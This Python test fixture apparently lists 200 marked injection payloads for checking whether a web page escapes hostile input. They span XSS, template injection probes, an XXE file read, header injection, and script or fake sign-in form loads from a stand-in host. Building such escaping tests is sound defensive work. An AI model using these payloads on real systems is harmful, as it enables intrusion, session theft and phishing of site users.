"""Words that mean harm to a page: 200, each with the mark `pwned` in whatever it would make.

What it would call, name or fetch bears the mark, so that a page on which one of them came alive can be told from
one that shows it as the words it is.
"""

from __future__ import annotations

CALL = "window.pwned=1"
SUM = "1022117"
"""What `{{1009*1013}}` becomes where a template is run."""

_SCRIPTS = (
    "<script>{}</script>",
    "<script src=//host.example/pwned.js></script>",
    "<script src='data:text/javascript,{}'></script>",
    "<SCRIPT\n>{}</SCRIPT\t>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script type=module>{}</script>",
    "<<script>{}//<</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</noscript><script>{}</script>",
    "</option></select><script>{}</script>",
    "</pre></p></li></ol><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "\u2028<script>{}</script>",
    "<script>\u0000{}</script>",
    "\ufeff<script>{}</script>",
)
_HANDLERS = (
    "<img src=x id=pwned onerror={}>",
    "<img src=x onerror='{}'>",
    "<img/src/onerror={}>",
    "<body onload={}>",
    "<details id=pwned open ontoggle={}>",
    "<video id=pwned src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<input autofocus id=pwned onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<marquee id=pwned onstart={}>",
    "<a id=pwned href=# onclick={}>x</a>",
    "<p id=pwned onpointerover={}>x</p>",
    "<div id=pwned style='animation-name:x' onanimationstart={}>",
    "<xss id=pwned tabindex=1 onfocus={}>",
    "<form id=pwned><button formaction=javascript:{}>x</button></form>",
    "<object id=pwned data=javascript:{}>",
    "<embed id=pwned src=javascript:{}>",
    "<iframe id=pwned src=javascript:{}></iframe>",
    '<iframe id=pwned srcdoc="<script>{}</script>"></iframe>',
    "<base href=//host.example/pwned/>",
    "<link rel=stylesheet href=//host.example/pwned.css>",
    "<meta http-equiv=refresh content='0;url=//host.example/pwned'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<img src=//host.example/pwned.png>",
    "<picture><source srcset=//host.example/pwned.png><img></picture>",
    "<template id=pwned><script>{}</script></template>",
    "<dialog open id=pwned>Sign in<form action=//host.example/pwned><input name=p></form></dialog>",
    "<portal src=//host.example/pwned>",
    "<slot id=pwned onslotchange={}>",
)
_PICTURES = (
    "<svg id=pwned onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><animate id=pwned onbegin={} attributeName=x dur=1s>",
    "<svg><a id=pwned xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={} />#x'></svg>",
    "<svg><foreignObject id=pwned><body onload={}></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:{} /></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    "<math><mtext></table></math><img src=x id=pwned onerror={}>",
    "<math><a id=pwned xlink:href=javascript:{}>x</a></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
    "<math><mi><mglyph><style><img src=x onerror={}>",
    "<table><td background=javascript:{}>",
)
_ATTRIBUTES = (
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    '"><img src=x id=pwned onerror="{}">',
    "'><img src=x id=pwned onerror='{}'>",
    "` onmouseover=`{}",
    " onmouseover={} x=",
    '"/onmouseover="{}',
    '" style="background:url(//host.example/pwned)',
    '" href="javascript:{}',
    '" formaction="javascript:{}',
    '" srcdoc="<script>{}</script>',
    '"\nonmouseover="{}',
    '"\x00onmouseover="{}',
    '" id="pwned',
    '" class="pwned',
    '" data-open="keys" data-copy="pwned',
    '" hx-get="//host.example/pwned" hx-trigger="load',
    '" hx-on:load="{}',
    '" hx-vals="js:{{x:{}}}',
)
_HTMX = (
    "<div id=pwned hx-get=//host.example/pwned hx-trigger=load></div>",
    "<div id=pwned data-hx-get=//host.example/pwned data-hx-trigger=load></div>",
    "<div id=pwned hx-on:htmx:load='{}'></div>",
    "<div id=pwned hx-on--load='{}'></div>",
    "<div id=pwned hx-get=/events hx-trigger='load[{}]'></div>",
    "<div id=pwned hx-get=/events hx-vals='js:{{a:{}}}' hx-trigger=load></div>",
    '<div id=pwned hx-post=/judge hx-vals=\'{{"kind":"undo"}}\' hx-trigger=load></div>',
    "<div id=pwned hx-ext=pwned></div>",
    "<div id=pwned hx-swap-oob=true>x</div>",
    "<div id=pwned hx-headers='js:{}'></div>",
)
_SCHEMES = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        " javascript:{}",
        "java\tscript:{}",
        "java\nscript:{}",
        "\x01javascript:{}",
    ),
    *("javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript:/*--></title>*/{}"),
    *(
        "vbscript:{}",
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZDwvc2NyaXB0Pg==",
    ),
    *("DATA:image/svg+xml,<svg id=pwned onload={}>", "blob:http://host.example/pwned", "file:///etc/pwned"),
    *("//host.example/pwned", "\\\\host.example\\pwned", "/\\host.example/pwned", "https:host.example/pwned"),
    *(
        "javascript://host.example/%0a{}",
        "view-source:pwned",
        "feed:javascript:{}",
        "jar:http://host.example!/pwned",
    ),
    *("http://host.example/'onmouseover='{}", 'http://host.example/"onmouseover="{}', "http://[::1/pwned"),
    *(
        "http://user@host.example:99999/pwned",
        "https://host.example/pwned#:~:text=</script><script>{}</script>",
    ),
    *("ms-word:ofe|u|http://host.example/pwned", "mailto:pwned@host.example?subject=<b>", "tel:+0;ext=pwned"),
)
_TEMPLATES = (
    *("{{{{1009*1013}}}}", "{{% print(1009*1013) %}}", "{{# pwned #}}", "${{1009*1013}}", "#{{1009*1013}}"),
    *(
        "<%= 1009*1013 %>",
        "{{{{config}}}}",
        "{{{{''.__class__.__mro__}}}}",
        "{{{{ask.desk}}}}",
        "{{{{self._TemplateReference__context}}}}",
    ),
    *(
        "{{% raw %}}{{{{1009*1013}}}}{{% endraw %}}",
        "{{% include '/etc/pwned' %}}",
        "%(pwned)s",
        "{{0.__class__}}",
    ),
    *(
        "[[1009*1013]]",
        "@(1009*1013)",
        "*{{1009*1013}}",
        "{{{{=1009*1013}}}}",
        "{{php}}{}{{/php}}",
        "#set($x=1009*1013)$x",
    ),
)
_STYLES = (
    "<style>*{{background:url(//host.example/pwned)}}</style>",
    "<style>@import '//host.example/pwned.css';</style>",
    "<p id=pwned style=background:url(//host.example/pwned)>x</p>",
    "<div id=pwned style='position:fixed;inset:0;background:red'>x</div>",
    "x:expression({})",
    "url(javascript:{})",
    "}}*{{background:url(//host.example/pwned)}}",
    "</style><img src=x id=pwned onerror={}>",
    "\\3c script\\3e {}",
    "behavior:url(//host.example/pwned.htc)",
)
_LETTERS = (
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02bascript\u02ba onmouseover={}",
    "\u202e>tpircs/<{}>tpircs<",
    "\u2066<img src=x id=pwned onerror={}>\u2069",
    "\u200f<script>{}</script>\u200e",
    "a\u0300\u0301\u0302\u0303\u0304" * 12 + "<b id=pwned>",
    "\u0000<script>{}</script>\u0000",
    "\u001b]0;pwned\u0007",
    "\u0085<script>{}</script>",
    "\ud7ff<script>{}</script>\ue000",
    "\U000e0001<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;img src=x onerror={}&#x3e;",
    "&NewLine;javascript&colon;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "%253Cscript%253E{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
)
_HEADERS = (
    "x\r\nSet-Cookie: pwned=1",
    "x\nX-Pwned: 1\n\n<script>{}</script>",
    "x%0d%0aX-Pwned:%201",
    "x\u560d\u560aX-Pwned: 1",
    '"; filename="pwned.html',
    "x\r\n\r\n<html><script>{}</script>",
)
_MARKDOWN = (
    "[x](javascript:{})",
    "![x](//host.example/pwned.png)",
    "<javascript:{}>",
    "[x]: //host.example/pwned",
    "```\n<script>{}</script>\n```",
    "# pwned\n<details open ontoggle={}>",
)
_DATA = (
    "');{};//",
    '";{};//',
    '\\";{};//',
    "`${{{}}}`",
    "*/{}/*",
    "</p><!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<!--<img src='--><img src=x id=pwned onerror={}//'>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/pwned'>]><x>&y;</x>",
    "<![CDATA[<script>{}</script>]]>",
)

_ALL = (
    *(*_SCRIPTS, *_HANDLERS, *_PICTURES, *_ATTRIBUTES, *_HTMX, *_SCHEMES, *_TEMPLATES, *_STYLES),
    *(*_LETTERS, *_HEADERS, *_MARKDOWN, *_DATA),
)
PAYLOADS = tuple(payload.format(CALL) for payload in _ALL)
"""200 texts."""
